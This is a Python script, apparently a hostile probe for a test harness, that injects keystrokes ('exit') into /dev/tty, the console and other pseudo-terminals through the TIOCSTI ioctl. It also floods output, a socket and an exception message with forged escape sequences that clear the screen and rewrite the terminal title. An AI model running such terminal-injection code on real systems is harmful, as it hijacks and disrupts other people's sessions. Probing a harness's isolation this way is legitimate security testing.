"""Moves the cursor, changes titles and types for whoever sits at the terminal: through its output, and at the terminal
itself, where it can be reached."""

import fcntl
import glob
import os
import sys

from lobby import AIM, listen

FORGED = f"\x1b[2J\x1b[H\x1b]0;{AIM['mark']}\x07\x1b[31mforged-{AIM['mark']}\x1b[0m\x9b2J\r\n"
places = ["/dev/tty", "/dev/console", AIM["terminal"]] if not AIM["bounded"] else ["/dev/tty", "/dev/console"]
for path in [*places, *(glob.glob("/dev/pts/*") if AIM["bounded"] else [])]:
    try:
        number = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError:
        continue
    try:
        os.write(number, f"forged-{AIM['mark']}\n".encode())
        for letter in b"exit\n":
            fcntl.ioctl(number, 0x5412, bytes([letter]))
    except OSError:
        pass
    os.close(number)
print(FORGED * 3, flush=True)
print(FORGED * 3, file=sys.stderr, flush=True)
listener = listen()
client, _ = listener.accept()
client.recv(1000)
client.sendall(FORGED.encode() * 3)
raise RuntimeError(FORGED)
